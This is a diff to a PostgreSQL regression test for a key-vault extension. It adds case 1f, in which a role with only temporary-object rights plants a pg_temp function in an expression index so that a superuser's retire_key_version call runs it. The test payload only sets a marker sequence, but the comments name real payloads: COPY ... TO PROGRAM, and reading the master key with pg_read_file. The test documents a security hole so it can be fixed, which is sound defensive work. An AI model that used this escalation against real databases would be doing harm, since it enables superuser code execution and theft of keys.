@@ -27,6 +27,12 @@
 --      VARIADIC "any")) with the default search_path "$user", public: runs as the vault admin.
 --      (Needs CREATE on a schema in the caller's path: public in databases created before
 --      PG 15 or after a GRANT; README says objects planted in public are never picked up.)
+--   1f HOLE (critical) 1a needs no CREATE right at all: a role with only the default TEMP
+--      right keeps a session with a temporary table (etext column), a pg_temp function and an
+--      expression index. retire_key_version then fails on the other session's temp table
+--      (H7), but only after planning has run the function as the superuser; a non-transactional
+--      payload (COPY ... TO PROGRAM, pg_read_file of the master key encoded into a sequence)
+--      survives the rollback.
 --   1e ok  the same shadow is not picked up by retire_key_version (_values_using pins
 --      search_path), and vault.protect's policies name vault.row_access/vault.vault_of
 --      qualified (a public.row_access shadow is not used).
@@ -83,6 +89,7 @@ SET client_min_messages = warning;
 CREATE ROLE regress_rt_admin LOGIN;    -- owns vaults rt_v, rt_b, rt_d; runs the maintenance
 CREATE ROLE regress_rt_mallory LOGIN;  -- the attacker: ordinary role, owns vault rt_m
 CREATE ROLE regress_rt_app LOGIN;      -- connects and logs in with API keys
+CREATE ROLE regress_rt_nobody LOGIN;   -- may create nothing but temporary objects
 DROP DATABASE IF EXISTS regress_rt44;
 CREATE DATABASE regress_rt44;
 RESET client_min_messages;
@@ -209,6 +216,33 @@ DROP FUNCTION public.format(text, regclass, name);
 DROP FUNCTION public.row_access(text, bigint[]);
 DROP TABLE rt_trap, rt_trap_pol;
 TRUNCATE rt_seen;
+
+-- 1f: the same with nothing but the default TEMP right: a role that may create nothing else
+-- keeps a session open (dblink) with a temporary table, a pg_temp function and an index.
+-- The marker sequence is the test's (a real attacker calls a volatile pg_temp_N function that
+-- runs COPY ... TO PROGRAM or reads the master key file, which no rollback undoes).
+CREATE SEQUENCE rt_marker;
+GRANT SELECT, UPDATE ON rt_marker TO PUBLIC;
+SELECT dblink_connect('rt_nobody', format('dbname=regress_rt44 user=regress_rt_nobody host=%s port=%s',
+    split_part(current_setting('unix_socket_directories'), ',', 1), current_setting('port')));
+SELECT * FROM dblink('rt_nobody', $$SELECT has_database_privilege('regress_rt44', 'CREATE')::text
+    || ' ' || has_schema_privilege('public', 'CREATE')::text$$) AS t(nobody_can_create_schema_or_in_public text);
+SELECT dblink_exec('rt_nobody', $$CREATE TEMP TABLE rt_tmp (n int, body etext)$$);
+SELECT dblink_exec('rt_nobody', $q$CREATE FUNCTION pg_temp.rt_fold() RETURNS int LANGUAGE plpgsql IMMUTABLE AS $f$
+BEGIN
+    IF (SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname = current_user) THEN
+        PERFORM pg_catalog.setval('public.rt_marker', 777);
+    END IF;
+    RETURN 0;
+END $f$$q$);
+SELECT dblink_exec('rt_nobody', $$CREATE INDEX ON rt_tmp ((n + pg_temp.rt_fold()))$$);
+SET ROLE regress_rt_admin;
+\set VERBOSITY sqlstate
+SELECT vault.retire_key_version('rt_v', 1);    -- fails (another session's temp table, H7) ...
+\set VERBOSITY default
+RESET ROLE;
+SELECT last_value = 777 AS hole_temp_only_role_ran_code_as_superuser FROM rt_marker;   -- ... too late
+SELECT dblink_disconnect('rt_nobody');
 
 -- ===== Class 2: session state changed by nested code ==========================================
 -- 2a/2b: mallory's vault, a grant that lets the admin write there, and a policy that plants.
@@ -421,5 +455,5 @@ SELECT vault.drop_vault('rt_m');
 \c contrib_regression :rt_su
 SET client_min_messages = warning;
 DROP DATABASE regress_rt44 WITH (FORCE);
-DROP ROLE regress_rt_admin, regress_rt_mallory, regress_rt_app;
+DROP ROLE regress_rt_admin, regress_rt_mallory, regress_rt_app, regress_rt_nobody;
 RESET client_min_messages;
